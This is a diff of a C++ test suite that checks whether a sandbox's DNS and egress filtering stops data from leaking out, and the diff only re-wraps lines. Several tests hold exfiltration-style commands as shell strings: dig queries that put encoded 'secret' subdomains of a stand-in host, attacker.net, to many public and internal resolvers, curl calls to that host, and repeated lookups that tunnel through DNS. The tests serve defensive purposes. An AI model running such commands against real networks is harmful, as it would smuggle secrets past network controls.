@@ -44,7 +44,8 @@ TEST_P(DnsAttack, DNS_02_the_same_over_tcp_is_answered_here) {
 
 TEST_P(DnsAttack, DNS_06_every_resolver_the_command_can_name_is_ours) {
   const auto result = run_shell(
-      "for s in 8.8.8.8 1.1.1.1 168.63.129.16 192.5.6.30 127.0.0.11 127.0.0.53 2001:503:a83e::30; do "
+      "for s in 8.8.8.8 1.1.1.1 168.63.129.16 192.5.6.30 127.0.0.11 127.0.0.53 2001:503:a83e::30; "
+      "do "
       "for t in +notcp +tcp; do dig $t +tries=1 +time=3 @$s c2VjcmV0.attacker.net | "
       "grep -o 'status: [A-Z]*' || echo none; done; done");
   EXPECT_EQ(result.exit_code, 0) << result;
@@ -75,7 +76,8 @@ TEST_P(DnsAttack, DNS_10_no_record_type_class_or_opcode_carries_a_denied_name_ou
 }
 
 TEST_P(DnsAttack, DNS_20_a_denied_name_is_a_clear_local_error_not_a_sinkhole) {
-  const auto result = run_shell("dig +tries=1 +time=3 denied.org; curl -sS --noproxy '*' https://denied.org");
+  const auto result =
+      run_shell("dig +tries=1 +time=3 denied.org; curl -sS --noproxy '*' https://denied.org");
   EXPECT_EQ(result.exit_code, 6) << result;
   EXPECT_THAT(result.output, HasSubstr("status: NXDOMAIN"));
   EXPECT_THAT(result.output, HasSubstr("EDE: 15"));
@@ -88,10 +90,12 @@ TEST_P(DnsAttack, DNS_11_an_alias_of_a_denied_name_is_judged_by_the_name_that_wa
       "curl -sSk -m 5 https://cname.example.org/; curl -sS -m 5 https://attacker.net/; true");
   EXPECT_EQ(result.exit_code, 0) << result;
   EXPECT_THAT(result.errors, HasSubstr("attacker.net"));
-  for (const auto& request : world.web_requests()) EXPECT_NE(request.host, "attacker.net");
+  for (const auto& request : world.web_requests())
+    EXPECT_NE(request.host, "attacker.net");
 }
 
-TEST_P(DnsAttack, DNS_09_a_lookup_under_an_allowed_wildcard_asks_nobody_until_a_connection_is_made) {
+TEST_P(DnsAttack,
+       DNS_09_a_lookup_under_an_allowed_wildcard_asks_nobody_until_a_connection_is_made) {
   const auto result = run_shell(
       "for i in $(seq 50); do getent ahosts d$i.c2VjcmV0.example.org >/dev/null || exit 3; done",
       "*.example.org");
